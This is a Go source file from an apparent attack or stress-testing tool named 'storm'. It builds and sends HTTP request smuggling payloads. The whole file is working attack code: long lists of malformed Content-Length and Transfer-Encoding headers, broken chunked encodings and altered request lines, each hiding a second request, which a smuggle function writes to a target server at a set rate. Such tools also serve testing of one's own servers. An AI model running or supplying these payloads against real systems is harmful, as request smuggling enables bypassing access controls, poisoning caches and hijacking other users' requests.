package storm

import (
	"io"
	"strconv"
	"strings"
)

func smuggleAttacks() []Attack {
	return []Attack{
		{Name: "smuggling", What: "requests that two servers may frame differently, with another one hidden in each", Unit: "requests",
			Conns: 16, Dials: 400, Rate: 400, run: smuggle},
	}
}

// Smuggled is a message that two servers may read differently.
type Smuggled struct {
	Name string
	Raw  string // with the hidden request, if any, and nothing after it
}

// lengthFields and codingFields are ways to write the two fields that frame a body,
// most of them wrong. %N stands for the length.
func lengthFields() []string {
	return []string{
		"Content-Length: %N", "Content-Length: %N, %N", "Content-Length: 0%N", "Content-Length: +%N", "Content-Length: -%N",
		"Content-Length: 0x%N", "Content-Length: %N\r\nContent-Length: 0", "Content-Length: 0\r\nContent-Length: %N",
		"Content-Length : %N", " Content-Length: %N", "Content-Length\t: %N", "Content-Length:\x0b%N", "Content-Length: %N\x00",
		"Content_Length: %N", "Content-Length: %N;q", "Content-Length: %N.0", "Content-Length: %Ne0", "Content-Length:\r\n %N",
		"Content-Length: \"%N\"", "X: y\rContent-Length: %N", "X: y\nContent-Length: %N", "Content-Length: 1844674407370955161%N",
		"Content-Length: ",
	}
}

func codingFields() []string {
	return []string{
		"Transfer-Encoding: chunked", "Transfer-Encoding: Chunked", "Transfer-Encoding:chunked", "Transfer-Encoding: chunked ",
		"Transfer-Encoding:\tchunked", "Transfer-Encoding:\x0bchunked", "Transfer-Encoding: \x00chunked", "Transfer-Encoding : chunked",
		" Transfer-Encoding: chunked", "\tTransfer-Encoding: chunked", "Transfer-Encoding:\r\n chunked", "Transfer-Encoding\r\n : chunked",
		"Transfer-Encoding: xchunked", "Transfer-Encoding: chunked, identity", "Transfer-Encoding: identity, chunked",
		"Transfer-Encoding: gzip, chunked", "Transfer-Encoding: chunked, chunked", "Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
		"Transfer-Encoding: x\r\nTransfer-Encoding: chunked", "Transfer-Encoding: identity", "Transfer-Encoding: chunked;q=1",
		"Transfer-Encoding: \"chunked\"", "Transfer-Encoding: 'chunked'", "Transfer-Encoding: chun\r\n ked", "Transfer_Encoding: chunked",
		"Transfer-Encoding: ,chunked", "Transfer-Encoding: chunked,", "X: y\nTransfer-Encoding: chunked", "X: y\rTransfer-Encoding: chunked",
		"X: y\r\n\rTransfer-Encoding: chunked", "Transfer-Encoding: ch\xc3\xbcnked", "TRANSFER-ENCODING: CHUNKED",
		"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked", "Connection: Content-Length\r\nTransfer-Encoding: chunked",
	}
}

// chunkings are bodies in chunks, most of them wrong. %H is where the hidden
// request may stand.
func chunkings() []string {
	return []string{
		"0\r\n\r\n%H", "0\r\n%H", "0\n\n%H", "00\r\n\r\n%H", "0x0\r\n\r\n%H", "+0\r\n\r\n%H", "-0\r\n\r\n%H", " 0\r\n\r\n%H", "0 \r\n\r\n%H",
		"0;\r\n\r\n%H", "0;a\n\r\n\r\n%H", "0;a=\"\r\n\r\n%H", "0;a=\"b\r\n\"\r\n\r\n%H", "0\r\nX: y\r\n\r\n%H", "0\r\nContent-Length: 9\r\n\r\n%H",
		"0\r\nX y\r\n\r\n%H", "1\r\na0\r\n\r\n%H", "1\r\na\n0\r\n\r\n%H", "1\na\n0\n\n%H", "1\r\na\r0\r\n\r\n%H", "1\r\nab\r\n0\r\n\r\n%H", "2\r\na\r\n0\r\n\r\n%H",
		"ffffffffffffffff\r\n%H", "10000000000000000\r\n%H", "100000000\r\n%H", "8000000000000000\r\n%H", "\r\n0\r\n\r\n%H", "0\r\r\n\r\n%H", "0\r\n\r%H",
		"0_0\r\n\r\n%H", "g\r\n\r\n%H", "\r\n\r\n%H", "1;\x00\r\na\r\n0\r\n\r\n%H", "0\r\n : y\r\n\r\n%H", "0\x0b\r\n\r\n%H", "0\r\nTransfer-Encoding: chunked\r\n\r\n%H",
	}
}

// Smuggling returns every combination that may be read differently, with a request
// for the path hidden in each.
func Smuggling(host, sink, hidden string) []Smuggled {
	secret := "GET " + hidden + " HTTP/1.1\r\nHost: " + host + "\r\nX: "
	top := request("POST", sink, host)
	var list []Smuggled
	add := func(name, raw string) { list = append(list, Smuggled{name, raw}) }
	put := func(fields, body string) string {
		return top + strings.ReplaceAll(fields, "%N", strconv.Itoa(len(body))) + "\r\n\r\n" + body
	}
	// What length says holds the secret; to whom the coding counts, it is the next
	// request. And the other way round.
	for _, c := range codingFields() {
		whole := "0\r\n\r\n" + secret
		add("length before "+c, put("Content-Length: %N\r\n"+c, whole))
		add("length after "+c, put(c+"\r\nContent-Length: %N", whole))
		add("short length before "+c, top+"Content-Length: 4\r\n"+c+"\r\n\r\n"+hexLen(secret)+"\r\n"+secret+"\r\n0\r\n\r\n")
		if c != codingFields()[0] {
			add("only "+c, top+c+"\r\n\r\n"+secret)
		}
	}
	for _, l := range lengthFields()[1:] {
		add(l, put(l, secret))
		add("chunked and "+l, put("Transfer-Encoding: chunked\r\n"+l, "0\r\n\r\n"+secret))
	}
	for _, b := range chunkings()[1:] {
		add("chunks "+strconv.Quote(b), top+"Transfer-Encoding: chunked\r\n\r\n"+strings.ReplaceAll(b, "%H", secret))
	}
	for _, end := range []string{"\n\n", "\n\r\n", "\r\n\n", "\r\r\n", "\r\n\r", "\x00\r\n\r\n", "\r\n \r\n"} {
		add("head ends with "+strconv.Quote(end), strings.TrimSuffix(top, "\r\n")+end+secret)
	}
	for _, line := range []string{"GET %T HTTP/1.1 ", "GET  %T HTTP/1.1", "GET %T  HTTP/1.1", "GET\t%T HTTP/1.1", " GET %T HTTP/1.1", "GET %T HTTP/1.10",
		"GET %T HTTP/01.1", "GET %T HTTP/1.1\x0b", "GET %T", "GET %T HTTP/2.0", "GET %T http/1.1", "GET %T HTTP/1.1\r", "\x00GET %T HTTP/1.1", "GET %T\x00 HTTP/1.1"} {
		add("line "+strconv.Quote(line), strings.ReplaceAll(line, "%T", hidden)+"\r\nHost: "+host+"\r\n\r\n")
	}
	return list
}

func hexLen(s string) string { return strconv.FormatInt(int64(len(s)), 16) }

func smuggle(s *storm, c *line) error {
	list := Smuggling(s.to.Host, s.to.Sink, s.to.Hidden)
	one := list[c.n%uint64(len(list))]
	if !s.may(1) {
		return nil
	}
	c.discard()
	_, err := io.WriteString(c, one.Raw+"\r\n\r\n"+request("GET", s.to.Page, s.to.Host)+"\r\n")
	if err != nil {
		return s.unlessOver(err)
	}
	// Nobody waits for the rest of a body that is never sent.
	_ = c.tcp.CloseWrite()
	return c.hold()
}
